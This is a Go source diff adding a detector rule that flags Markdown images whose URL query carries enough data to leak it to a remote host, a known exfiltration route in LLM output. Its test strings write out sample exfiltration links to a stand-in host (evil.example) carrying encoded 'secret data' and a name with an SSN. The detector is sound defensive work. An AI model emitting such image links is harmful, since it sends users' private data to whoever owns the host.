@@ -1,0 +1,82 @@
+package detect
+
+// The bounds of a link in Markdown, and how much of its address must be data for it to carry any away.
+const (
+	linkBytes    = 1024
+	carriedBytes = 24
+)
+
+// image checks for an image in Markdown, or in HTML, whose address carries data to another host: shown, it is fetched, and
+// what stands in the address is told to whoever owns the host.
+func (r *reader) image(i int) {
+	if !r.has(i, "![") {
+		return
+	}
+	at := i + 2
+	for at-i < 256 && r.at(at) != ']' && r.at(at) >= ' ' {
+		at++
+	}
+	if r.at(at) != ']' || r.at(at+1) != '(' {
+		return
+	}
+	at += 2
+	for _, scheme := range [...]string{"https://", "http://", "//"} {
+		if r.hasFold(at, scheme) {
+			if end := r.carries(i, at+len(scheme)); end > 0 {
+				r.found("out.image", Exfiltrating, High, 0.75, i, end)
+			}
+			return
+		}
+	}
+}
+
+// carries is where the image ends whose host begins at at, if the address holds data; 0: it does not.
+func (r *reader) carries(start, at int) int {
+	query, run, longest := false, 0, 0
+	for at-start < linkBytes {
+		c := r.at(at)
+		switch {
+		case c == ')':
+			if query && longest >= carriedBytes {
+				return at + 1
+			}
+			return 0
+		case c <= ' ' || c >= 0x80:
+			return 0
+		case c == '?':
+			query, run = true, 0
+		case c == '&' || c == '=' || c == '/' || c == '#':
+			run = 0
+		case query:
+			run++
+			longest = max(longest, run)
+		}
+		at++
+	}
+	return 0
+}
+
+// openImage is where an image begins whose address is not over.
+func (r *reader) openImage(text string) int {
+	r.begin(text, nil)
+	for i := max(0, len(text)-linkBytes-8); i < len(text); i++ {
+		if text[i] != '!' {
+			continue
+		}
+		r.past, r.into = false, r.into[:0]
+		if r.image(i); r.past {
+			return i
+		}
+	}
+	return len(text)
+}
+
+func linkRules() []Rule {
+	return []Rule{{
+		ID: "out.image", Type: Exfiltrating, Severity: High, Score: 0.75,
+		Description: "An image in Markdown whose address carries data in its query: shown, it is fetched, and the data is told to its host.",
+		Source:      "OWASP LLM02, LLM05; CommonMark 6.4", Check: "24 bytes or more in one value", Behind: 0, Ahead: linkBytes + 8, Cost: Candidate,
+		Match:   []string{"![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI)", "see ![](http://a.example/i?q=name%20jane%20doe%20ssn%20is%20123)"},
+		NoMatch: []string{"![logo](https://example.com/logo.png)", "![chart](https://example.com/c.png?w=400&h=300)", "[link](https://example.com/?q=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI)"},
+	}}
+}
